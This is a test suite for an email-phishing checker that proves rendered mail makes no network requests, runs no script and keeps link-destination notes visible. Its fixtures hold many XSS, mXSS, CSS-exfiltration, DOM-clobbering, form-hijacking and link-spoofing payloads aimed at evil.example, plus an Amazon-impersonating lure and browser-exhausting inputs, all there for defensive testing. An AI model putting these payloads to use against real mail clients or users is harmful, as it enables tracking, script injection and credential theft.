import { readdirSync } from 'node:fs'
import { createChecker } from 'honmono'
import type { Page } from 'playwright-core'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'
import { answered, check, checkFiles, fileOf, golden, site } from './page.ts'

const served = site()

/** Whatever the page asks the network for, from now on. */
function requestsOf(page: Page): string[] {
  const seen: string[] = []
  page.context().on('request', (request) => {
    // Addresses that hold their content ask nobody.
    if (!/^(?:data|blob|about):/.test(request.url())) seen.push(`${request.method()} ${request.url()}`)
  })
  return seen
}

/** An answer waits for what the workers load when they start: their code, and whether this site gives out lists of fakes. */
async function settled(page: Page): Promise<void> {
  await check(page, '日曜日は10時に駅で待っています。')
  await page.goBack()
  await page.waitForSelector('textarea')
}

const looked = async (page: Page) => {
  await page.getByLabel('もとの見た目').check()
  await page.waitForFunction(() => {
    const frame = document.querySelector('iframe')
    return frame !== null && (frame.hidden || (frame.contentDocument?.body.childNodes.length ?? 0) > 0)
  })
}

/** Reasons that offer to show their mark, where none is drawn. */
function reasonsWithoutMark(page: Page): Promise<string[]> {
  return page
    .locator('.reasons li')
    .evaluateAll((rows) =>
      rows.flatMap((row, index) =>
        row.querySelector('button') !== null && document.getElementById(`mark-${index + 1}`) === null ? [row.textContent] : [],
      ),
    )
}

interface Notes {
  readonly styles: number
  readonly links: number
  readonly words: number
  readonly destinations: number
}
const checker = createChecker()

/** What the engine left in the message. */
function notesOf(mail: Uint8Array): Notes {
  const html = checker.appearance(mail, 0)?.html ?? ''
  const count = (name: string) => html.match(new RegExp(`<[^<>]*\\sdata-${name}="`, 'g'))?.length ?? 0
  return { styles: count('style'), links: count('link'), words: count('words'), destinations: count('link') }
}
/** What arrived in the frame. */
function notesIn(page: Page): Promise<Notes> {
  return page.evaluate(() => {
    const count = (name: string) => document.querySelector('iframe')?.contentDocument?.querySelectorAll(`[data-${name}]`).length ?? 0
    return { styles: count('style'), links: count('link'), words: count('words'), destinations: count('destination') }
  })
}

/** The code of the site's own readers, for mails with files. */
const READERS = /^GET http:\/\/127\.0\.0\.1:\d+\/(?:readers|assets\/reading-)[/\w.-]+$/

/** Each line tries to run, load, send or leave in another way. */
const HOSTILE = `
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" as="image" href="https://evil.example/preload.png">
<link rel="dns-prefetch" href="//dns.evil.example"><link rel="preconnect" href="https://pre.evil.example">
<style>@import url(https://evil.example/import.css); @font-face { font-family: x; src: url(https://evil.example/f.woff) }
body { background: url(https://evil.example/style.png); font-family: x }
p::after { content: url(https://evil.example/after.png) } @media all { p { list-style: url(https://evil.example/media.png) } }
div { background-image: image-set("https://evil.example/set.png" 1x) } b { --x: url(https://evil.example/var.png); background: var(--x) }</style>
<script>parent.hit = 'script'</script>
<script src="https://evil.example/a.js"></script>
<img src="https://evil.example/pixel.gif" width="1" height="1"><img src="//evil.example/b.gif" srcset="https://evil.example/c.gif 2x">
<img src="x" onerror="parent.hit = 'onerror'"><svg onload="parent.hit = 'svg'"><image href="https://evil.example/svg.png"/><script>parent.hit='svg script'</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.hit='mxss'"></style></mglyph></table></mtext></math>
<p style="background: url('https://evil.example/inline.png'); position: fixed; inset: 0">p</p><div style="background:u\\72l(https://evil.example/escaped.png)">d</div><b>b</b>
<table background="https://evil.example/table.png"><tr><td background="https://evil.example/td.png">t</td></tr></table>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.hit='srcdoc'</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/a" autoplay></audio>
<a href="https://evil.example/press" target="_top" ping="https://evil.example/ping">press me</a> <a href="javascript:parent.hit='javascript'">run me</a>
<a href="data:text/html,<script>hit=1</script>">data</a>
<form action="https://evil.example/form" method="post"><input name="password" type="password" autofocus onfocus="parent.hit='focus'"><button formaction="https://evil.example/button">send</button></form>
<input type="image" src="https://evil.example/input.png"><details open ontoggle="parent.hit='toggle'">x</details>
<template><img src="https://evil.example/template.png"></template><noscript><img src="https://evil.example/noscript.png"></noscript>
<p style="--x:u\\72l(https://evil.example/variable);background:var(--x)">v</p><p style="--x:u\\72l(/leak);background:var(--x)">own server</p>
<style>p { --y: image\\2dset("/leak?set" 1x); background: var(--y) } @keyframes k { from { --z: u\\72l(/leak?key); background: var(--z) } } p { animation: k 1s }</style>
<form action="https://evil.example/clobber"><input name="getAttribute"><input name="attributes"><input name="localName"></form>
<a id="document"></a><a id="defaultView"></a><form name="body"></form><img name="getElementById">
`
const HOSTILE_MAIL = `From: "Amazon.co.jp" <a@evil.example>\r\nTo: b@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n${HOSTILE}`

describe('a check', () => {
  it('asks the network for nothing, whatever kind of message it is', async () => {
    const page = await served.open()
    // The site's own files are being stored for use without the network.
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready
    })
    await page.waitForLoadState('networkidle')
    await settled(page)
    const requests = requestsOf(page)
    await check(page, 'Amazonプライムの支払いに失敗しました https://evil.example/a')
    await page.goBack()
    await page.locator('.samples button').first().click()
    await answered(page)
    await looked(page)
    await page.goBack()
    await checkFiles(page, fileOf('hostile.eml', HOSTILE_MAIL))
    await looked(page)
    await page.waitForTimeout(500)
    expect(requests).toEqual([])
  })

  it('asks for nothing but readers and complains of nothing over every sixth mail of the golden corpus, shown as it looked', {
    timeout: 300_000,
  }, async () => {
    const mails = readdirSync(new URL('../../../corpus/', import.meta.url), { recursive: true, encoding: 'utf8' }).filter((path) =>
      path.endsWith('.eml'),
    )
    expect(mails.length).toBeGreaterThan(150)
    const over = async (some: readonly string[]) => {
      const page = await served.open({ serviceWorkers: 'block' })
      await page.waitForLoadState('networkidle')
      await settled(page)
      const requests = requestsOf(page)
      const errors: string[] = []
      page.on('pageerror', (error) => errors.push(error.message))
      for (const mail of some) {
        await checkFiles(page, golden(mail))
        expect(await page.locator('.answer').count(), mail).toBe(1)
        expect(await reasonsWithoutMark(page), mail).toEqual([])
        await looked(page)
        // The second lock lets by all that the first did: the two lists agree, and no link is left without its note.
        expect(await notesIn(page), mail).toEqual(notesOf(golden(mail).buffer))
        await page.goBack()
        await page.waitForSelector('textarea')
      }
      expect(requests.filter((request) => !READERS.test(request))).toEqual([])
      expect(errors).toEqual([])
    }
    // Two pages side by side, and every sixth mail: each takes half a second.
    await Promise.all([0, 1].map((page) => over(mails.filter((_, nth) => nth % 12 === 6 * page))))
  })

  it('lets a hostile message run, open, send or overwrite nothing', async () => {
    const page = await served.open()
    const opened: string[] = []
    page.context().on('page', (other) => opened.push(other.url()))
    page.on('dialog', (dialog) => opened.push(dialog.message()))
    await checkFiles(page, fileOf('hostile.eml', HOSTILE_MAIL))
    const address = page.url()
    await looked(page)
    const frame = page.frameLocator('iframe')
    for (const words of ['press me', 'run me', 'data']) await frame.getByText(words, { exact: true }).click({ force: true })
    await page.waitForTimeout(300)
    expect(opened).toEqual([])
    expect(page.url()).toBe(address)
    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
    expect(await frame.locator('script, iframe, object, embed, video, audio, link, meta, base, svg, math, template').count()).toBe(0)
    expect(
      await frame.locator('[onerror], [onload], [onfocus], [ontoggle], [href], [src], [srcset], [background], [ping], [action]').count(),
    ).toBe(0)
    expect(await frame.locator('input, button').evaluateAll((fields) => fields.every((field) => field.hasAttribute('disabled')))).toBe(true)
    const styles = await page.locator('iframe').evaluate((element) => {
      const inner = (element as HTMLIFrameElement).contentDocument
      return [...(inner?.querySelectorAll<HTMLElement>('[style]:not([data-destination])') ?? [])]
        .map((styled) => styled.style.cssText)
        .join('\n')
    })
    expect(styles).not.toMatch(/evil|leak|url|var\(|--|fixed|absolute|animation/)
  })

  it('could reach nothing even through a hole in our code: the policy stops script and network', async () => {
    const page = await served.open()
    const tried = await page.evaluate(async () => {
      const attempt = async (act: () => unknown) => {
        try {
          await act()
          return 'done'
        } catch {
          return 'refused'
        }
      }
      const element = document.createElement('div')
      return {
        markup: await attempt(() => element.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit = 1">')),
        handler: await attempt(() => element.setAttribute('onclick', 'window.hit = 1')),
        request: await attempt(() => fetch('/icon.svg')),
        worker: await attempt(() => new Worker('data:text/javascript,')),
      }
    })
    expect(tried).toEqual({ markup: 'refused', handler: 'refused', request: 'refused', worker: 'refused' })
  })
})

/** Each tries to hide, rewrite or cover the note that says where its link leads, or to be a link without one. */
const NOTE_ATTACKS: Readonly<Record<string, string>> = {
  'a layer that hides it': '<style>@layer x { [data-destination], span { display: none !important } }</style>LINK',
  'a rule that hides what follows a link': '<style>a + * { display: none !important; font-size: 0 !important }</style>LINK',
  'a rule that writes other words before it': '<style>a + *::before { content: "→ amazon.co.jp"; font: 700 14px system-ui }</style>LINK',
  'a cover': '<div style="position:relative">LINK<div style="position:absolute;inset:0;background:#fff">→ amazon.co.jp</div></div>',
  'a cover by variable': '<div style="--p:fixed;position:var(--p);inset:0;background:#fff">x</div>LINK',
  'a negative margin': '<div>LINK</div><div style="margin-top:-80px;background:#fff;height:200px">→ amazon.co.jp</div>',
  'a narrow, clipping parent': '<div style="overflow:hidden;width:20px;height:4px;white-space:nowrap">LINK</div>',
  'letters of no size': '<div style="font-size:0;line-height:0">LINK</div>',
  'the other direction': '<bdo dir="rtl">LINK</bdo>',
  'cells laid over each other':
    '<table><tr><td rowspan="2">LINK</td></tr><tr><td colspan="2" style="background:#fff">→ amazon.co.jp</td></tr></table>',
  'a tab inside the scheme': '<a href="ht&#9;tps://evil.example/a">press</a>',
  'an address without a scheme': '<a href="//evil.example/a">press</a>',
  'a base for a relative address': '<base href="https://evil.example/"><a href="/a">press</a>',
  'a control character before it': '<a href="&#1;https://evil.example/a">press</a>',
  'a very long address': `<a href="https://evil.example/${'a'.repeat(9_000)}">press</a>`,
  'an address that ends a comment': '<a href="https://evil.example/a?x=-->]></style">press</a>',
  'a line end inside it': '<a href="https://evil.example/&#13;a">press</a>',
  'a base without an address before the one with it': '<base target=_blank><base href="https://evil.example/"><a href="/a">press</a>',
  'a base inside a picture':
    '<svg><base href="https://www.amazon.co.jp/"></base></svg><base href="https://evil.example/"><a href="/a">press</a>',
  'a button of a form': '<form action="https://evil.example/f"><input type="password" name="p"><button>press</button></form>',
  'a phone number with another one shown': '<a href="tel:+810312345678">0120-000-000</a>',
  'a note of the sender’s own':
    '<a href="https://evil.example/a" data-destination="official" data-link="https://www.amazon.co.jp/">press</a>',
}

describe('the note behind a link, in the message as it looked', () => {
  let page: Page
  beforeAll(async () => {
    page = await served.open({ serviceWorkers: 'block' })
  })
  afterEach(async () => {
    await page.goBack()
    await page.waitForSelector('textarea')
  })

  it.each(Object.entries(NOTE_ATTACKS))('is there, whole and on top, in spite of %s', async (name, attack) => {
    const html = `<p>Amazonのお支払いに失敗しました。</p>${attack.replace('LINK', '<a href="https://evil.example/a">press</a>')}`
    await checkFiles(page, fileOf('attack.eml', HOSTILE_MAIL.replace(HOSTILE, html)))
    await looked(page)
    const note = page.frameLocator('iframe').locator('[data-destination]').first()
    await note.waitFor()
    expect(await note.innerText()).toMatch(name.includes('phone') ? /^→ \+810312345678/ : /^→ evil\.example/)
    const seen = await note.evaluate((element) => {
      const { left, top, width, height } = element.getBoundingClientRect()
      const { display, fontSize, direction } = getComputedStyle(element)
      const on = (x: number, y: number) => element.ownerDocument.elementFromPoint(left + width * x, top + height * y) === element
      const before = getComputedStyle(element, '::before').content
      return {
        display,
        fontSize,
        direction,
        before,
        isLarge: width > 60 && height > 12,
        isOnTop: on(0.1, 0.5) && on(0.5, 0.5) && on(0.9, 0.5),
      }
    })
    expect(seen).toEqual({ display: 'inline-block', fontSize: '14px', direction: 'ltr', before: 'none', isLarge: true, isOnTop: true })
  })
})

describe('a message made to keep the browser busy', () => {
  it.each([
    ['tables inside tables', `${'<table><tr><td>'.repeat(20_000)}<p>x</p>`],
    ['styles', '<b style=top:0>x</b>'.repeat(25_000)],
    ['selectors', `<style>${'*:has(*) * { color: red }'.repeat(10_000)}</style>${'<b>x</b>'.repeat(20_000)}`],
    ['links', '<a href=https://evil.example/>x</a>'.repeat(20_000)],
  ])('of %s is shown as far as it can be, and said to be cut', async (_, html) => {
    const page = await served.open({ serviceWorkers: 'block' })
    await checkFiles(page, fileOf('busy.eml', HOSTILE_MAIL.replace(HOSTILE, html)))
    await looked(page)
    expect(await page.locator('.message').innerText()).toContain('初めの部分だけ')
  })

  it('of one large picture, shown a thousand times, is cut too', async () => {
    const picture = Buffer.concat([
      Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
      Buffer.alloc(1_000_000),
    ]).toString('base64')
    const parts = `--x\r\nContent-Type: text/html\r\n\r\n${'<img src="cid:a">'.repeat(1_000)}\r\n--x\r\nContent-Type: image/gif\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n${picture}\r\n--x--\r\n`
    const page = await served.open({ serviceWorkers: 'block' })
    await checkFiles(
      page,
      fileOf(
        'pictures.eml',
        `From: a@a.example\r\nTo: b@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n${parts}`,
      ),
    )
    await looked(page)
    expect(await page.frameLocator('iframe').locator('img').count()).toBe(200)
    expect(await page.locator('.message').innerText()).toContain('初めの部分だけ')
  })
})
